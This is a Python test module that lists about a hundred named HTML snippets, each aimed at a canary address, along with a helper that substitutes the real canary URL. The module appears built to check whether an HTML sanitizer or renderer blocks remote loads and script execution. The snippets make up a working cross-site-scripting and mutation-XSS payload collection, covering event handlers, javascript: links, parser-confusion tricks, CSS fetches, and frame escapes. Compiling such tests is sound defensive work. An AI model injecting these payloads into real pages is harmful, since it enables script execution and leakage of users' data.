"""HTML that tries to run, to load, to send, to navigate or to reach its surroundings; `@` is the canary's address."""

JS = "fetch('@/js');parent.pwned=1;top.pwned=1;new Image().src='@/js2'"

SNIPPETS: dict[str, str] = {
    # What loads by itself
    "img": "<img src='@/x'>",
    "img without scheme": "<img src='//NETLOC/x'>",
    "img with white space": "<img src=' \n@/x'>",
    "image": "<image src='@/x'>",
    "srcset": "<img srcset='@/a 1x, @/b 2x'>",
    "picture": "<picture><source srcset='@/x'><img></picture>",
    "lowsrc": "<img lowsrc='@/x' dynsrc='@/y' src=''>",
    "video": "<video poster='@/p' src='@/v' autoplay></video>",
    "video source": "<video autoplay><source src='@/v'></video>",
    "audio": "<audio src='@/a' autoplay></audio>",
    "track": "<video src='@/v'><track default kind=subtitles src='@/t'></video>",
    "image button": "<input type=image src='@/x'>",
    "background": "<body background='@/x'><table background='@/y'><tr><td background='@/z'>.</table>",
    "frame": "<frameset><frame src='@/x'></frameset>",
    "iframe": "<iframe src='@/x'></iframe>",
    "iframe of a document": "<iframe srcdoc=\"<img src='@/x'><script>JS</script>\"></iframe>",
    "iframe of a script": '<iframe src="javascript:JS"></iframe>',
    "iframe of data": "<iframe src=\"data:text/html,<img src='@/x'>\"></iframe>",
    "object": "<object data='@/x'></object>",
    "object of a page": "<object data='@/x' type=text/html></object>",
    "embed": "<embed src='@/x'>",
    "applet": "<applet code='@/x' archive='@/y'></applet>",
    "portal": "<portal src='@/x'></portal>",
    "bgsound": "<bgsound src='@/x'>",
    "input of a layer": "<layer src='@/x'></layer><ilayer src='@/x'></ilayer>",
    "xml": "<xml src='@/x'></xml><?xml-stylesheet href='@/x'?>",
    # Styles
    "style attribute": "<div style=\"background:url('@/x')\">.</div>",
    "style attribute, escaped": "<div style=\"background:\\75rl('@/x')\">.</div>",
    "style list": "<ul><li style=\"list-style:url('@/x')\">.</ul>",
    "style cursor": "<div style=\"cursor:url('@/x'),auto;content:url('@/y')\">.</div>",
    "style element": "<style>body{background:url(@/x)}</style>",
    "style import": "<style>@import '@/x';</style>",
    "style font": "<style>@font-face{font-family:f;src:url(@/x)}*{font-family:f}</style><p>text",
    "style border": "<style>p{border-image:url(@/x) 1;mask-image:url(@/y)}</style><p>text",
    "style of a phrase": "<style>a[href^=h]{background:url(@/x)}</style><a href='@/l'>l</a>",
    # Links in the head
    "stylesheet": "<link rel=stylesheet href='@/x'>",
    "icon": "<link rel=icon href='@/x'>",
    "prefetch": "<link rel=prefetch href='@/x'>",
    "preload": "<link rel=preload as=image href='@/x'>",
    "preload of a set": "<link rel=preload as=image imagesrcset='@/x 1x'>",
    "module preload": "<link rel=modulepreload href='@/x'>",
    "prerender": "<link rel=prerender href='@/x'>",
    "names looked up ahead": "<link rel=dns-prefetch href='@'>",
    "manifest": "<link rel=manifest href='@/x'>",
    "import": "<link rel=import href='@/x'>",
    "alternate": "<link rel='alternate stylesheet' title=a href='@/x'>",
    "speculation": '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["@/x"]}]}</script>',
    "refresh": "<meta http-equiv=refresh content='0;url=@/x'>",
    "refresh to a script": '<meta http-equiv=refresh content="0;url=javascript:JS">',
    "policy": "<meta http-equiv=content-security-policy content='report-uri @/x'><img src='@/y'>",
    "base": "<base href='@/'><img src='x'><a href='y'>y</a>",
    "base target": "<base target=_top><a href='@/x'>x</a>",
    "head": "</style></head><head><link rel=stylesheet href='@/x'></head>",
    # Scripts
    "script": "<script>JS</script>",
    "script from elsewhere": "<script src='@/x'></script>",
    "module": "<script type=module>import '@/x';JS</script>",
    "script in a script": "<scr<script>ipt>JS</scr</script>ipt>",
    "script in capitals": "<SCRIPT\n>JS</SCRIPT\n>",
    "script without an end": "<script>JS//",
    "onerror": '<img src=x onerror="JS">',
    "onerror by slashes": '<img/src="x"/onerror="JS">',
    "onload": '<body onload="JS"><svg onload="JS"><iframe onload="JS"></iframe>',
    "onfocus": '<input autofocus onfocus="JS"><a href=# id=x tabindex=0 autofocus onfocus="JS">.</a>',
    "ontoggle": '<details open ontoggle="JS"><summary>.</summary></details>',
    "onanimation": '<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="JS">.</p>',
    "onpointer": '<marquee onstart="JS">.</marquee><p onpointerrawupdate="JS" onmouseover="JS">.</p>',
    "onbeforeprint": '<video onloadstart="JS"><source></video><audio src onerror="JS">',
    "link with a script": '<a href="javascript:JS">x</a>',
    "link with a hidden script": '<a href=" java\tscript&colon;JS">x</a><a href="\x01javascript:JS">x</a>',
    "link with Visual Basic": '<a href="vbscript:MsgBox(1)">x</a>',
    "link with data": '<a href="data:text/html,<script>JS</script>">x</a>',
    "form": "<form action='@/x'><input name=a value=1 autofocus><button>send</button></form>",
    "form with another action": "<form id=f></form><button form=f formaction='@/x'>send</button>",
    "form of a script": '<form action="javascript:JS"><input type=submit></form>',
    "ping": "<a href='@/x' ping='@/ping'>x</a>",
    "download": "<a href='@/x' download>x</a><area href='@/y' ping='@/z'>",
    # Other languages within HTML
    "svg image": "<svg><image href='@/x' xlink:href='@/y' width=9 height=9 /></svg>",
    "svg use": "<svg><use href='@/x#a' xlink:href='@/y#a' /></svg>",
    "svg script": "<svg><script>JS</script><script href='@/x' /></svg>",
    "svg animation": '<svg><a><animate attributeName=href values="javascript:JS" /><text y=20>x</text></a></svg>',
    "svg set": '<svg><set attributeName=onmouseover to="JS" /><animate onbegin="JS" attributeName=x dur=1s></svg>',
    "svg filter": "<svg><filter id=f><feImage href='@/x'/></filter><rect width=9 height=9 filter='url(#f)'/></svg>",
    "svg style": "<svg><style>@import '@/x';</style><rect fill=\"url('@/y#z')\" width=9 height=9 /></svg>",
    "svg foreign object": "<svg><foreignObject><img src='@/x'><iframe src='@/y'></iframe></foreignObject></svg>",
    "svg picture": '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'JS\'/>">',
    "mathml": '<math href="javascript:JS"><mi xlink:href="@/x">x</mi><annotation-xml encoding="text/html">'
    "<img src='@/y'></annotation-xml></math>",
    # Parsed differently the second time
    "mutation by noscript": '<noscript><p title="</noscript><img src=\'@/x\' onerror=\'JS\'>"></noscript>',
    "mutation by template": "<template><img src='@/x'><script>JS</script></template>",
    "shadow": "<div><template shadowrootmode=open><img src='@/x'><style>@import '@/y'</style></template></div>",
    "mutation by comment": "<!--><img src='@/x'>--><!--- --!><img src='@/y'><!-- -- > <img src='@/z'>",
    "mutation by math": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src='@/x'&gt;\">",
    "mutation by svg style": '<svg></p><style><a id="</style><img src=\'@/x\' onerror=\'JS\'>">',
    "mutation by form": "<form><math><mtext></form><form><mglyph><style></math><img src='@/x' onerror=\"JS\">",
    "mutation by title": "<svg><title><a title='</title><img src=\"@/x\" onerror=\"JS\">'>",
    "mutation by text area": "<textarea><img src='@/a'></textarea><img src='@/x'>",
    "mutation by raw text": "<xmp><p title='</xmp><img src=\"@/x\">'></xmp><noembed><img src='@/y'></noembed>",
    "mutation by select": "<select><template><img src='@/x'></template><option><style></select><img src='@/y'>",
    "conditional comment": "<!--[if IE]><img src='@/x'><![endif]--><![CDATA[<img src='@/y'>]]>",
    "broken quotes": "<img alt='`' src=`@/x`><a title='\"'><img src='@/y' alt=\"'\">",
    "nulls": "<im\0g src='@/x'><img\0src='@/y'><scr\0ipt>JS</script>",
    "plain text": "<plaintext><img src='@/x'>",
    "an end too early": "</body></html><img src='@/x'><script>JS</script>",
    # What surrounds it
    "names of its surroundings": "<img name=getElementById><form id=body><input name=parentNode></form><i id=top>.</i>",
    "frame that takes the window": "<a href='@/x' target=_top id=go>x</a><a href='@/x' target=_parent>x</a>",
    "permission": "<iframe allow='camera *' src='@/x'></iframe><fencedframe src='@/y'></fencedframe>",
    "popover": '<button popovertarget=p>x</button><div id=p popover onbeforetoggle="JS"><img src=\'@/x\'></div>',
    "custom element": "<x-a is=x><slot onslotchange=JS></slot></x-a>",
    "cid from elsewhere": "<img src='cid:@/x'><img src='cid:none'>",
}  # fmt: skip


def table(canary: str) -> dict[str, str]:
    """Every snippet, aimed at a canary's address."""
    script = JS.replace("@", canary)
    netloc = canary.removeprefix("http://")
    # The at-rules of CSS keep their sign.
    return {
        name: snippet.replace("@import", "\1import").replace("@font", "\1font").replace("@keyframes", "\1keyframes")
        .replace("@", canary).replace("NETLOC", netloc).replace("\1", "@").replace("JS", script)
        for name, snippet in SNIPPETS.items()
    }  # fmt: skip
